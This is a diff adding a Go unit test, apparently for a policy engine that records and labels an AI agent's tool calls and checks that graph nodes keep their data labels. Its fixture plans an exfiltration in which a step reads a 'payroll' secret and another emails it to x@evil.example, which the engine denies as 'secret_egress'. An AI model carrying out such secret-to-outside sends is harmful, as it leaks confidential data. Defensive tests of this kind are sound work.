@@ -184,3 +184,44 @@ func TestGraphs_DeniedStepsCarryTheirCodes(t *testing.T) {
 		t.Errorf("denials = %v, want %v", denials, want)
 	}
 }
+
+// A step's node carries the labels its reported result got, from the finish of its
+// allowed check, in the accepted plan and where a later phase draws it as external;
+// a check without a finish, a refused check, a failed finish without labels and
+// another operation add none.
+func TestGraphs_StepsCarryTheirResultsLabels(t *testing.T) {
+	phase1 := &engine.RoutingPlan{PlanID: "p1", PhaseNumber: 1, Steps: []engine.RoutingStep{
+		step("step-1", "read_secret", map[string]any{"name": "payroll"}),
+		step("step-2", "fetch_url", map[string]any{"url": "https://example.com"}),
+		step("step-3", "send_email", map[string]any{"to": "x@evil.example"}, "step-1"),
+	}}
+	later := step("step-4", "send_email", map[string]any{"body": "{{step-1.response.value}}"})
+	later.ImplicitDeps = []string{"step-1"}
+	rec := &engine.ExecutionRecord{
+		Phases: []engine.PhaseRecord{{Phase: 1, Plan: phase1}, {Phase: 2, Plan: &engine.RoutingPlan{PlanID: "p2", PhaseNumber: 2, Steps: []engine.RoutingStep{later}}}},
+		Operations: []engine.OperationRecord{
+			{Operation: op.ToolCall, StepID: "step-1", Outcome: engine.CheckAllow, Finish: &engine.FinishRecord{Status: engine.RunSucceeded, Labels: []string{"pii", "secret"}}},
+			{Operation: op.ToolCall, StepID: "step-2", Outcome: engine.CheckAllow, Finish: &engine.FinishRecord{Status: engine.RunFailed}},
+			{Operation: op.ToolCall, StepID: "step-2", Outcome: engine.CheckAllow, Finish: &engine.FinishRecord{Status: engine.RunSucceeded, Labels: []string{"untrusted"}}},
+			{Operation: op.ToolCall, StepID: "step-3", Outcome: engine.CheckDeny, Code: "secret_egress", Labels: []string{"secret"}, CallLabels: []string{"secret"}},
+			{Operation: op.ToolCall, StepID: "step-4", Outcome: engine.CheckAllow},
+			{Operation: op.Inference, StepID: "step-4", Outcome: engine.CheckAllow, Finish: &engine.FinishRecord{Status: engine.RunSucceeded, Labels: []string{"model"}}},
+		},
+	}
+	labels := map[string][]string{}
+	for _, g := range Graphs(rec) {
+		for _, n := range g.Nodes {
+			key := fmt.Sprintf("%d/%s", g.Phase, n.StepID)
+			if n.External {
+				key += " (external)"
+			}
+			if n.Labels != nil {
+				labels[key] = n.Labels
+			}
+		}
+	}
+	want := map[string][]string{"1/step-1": {"pii", "secret"}, "1/step-2": {"untrusted"}, "2/step-1 (external)": {"pii", "secret"}}
+	if !maps.EqualFunc(labels, want, slices.Equal) {
+		t.Errorf("labels = %v, want %v", labels, want)
+	}
+}
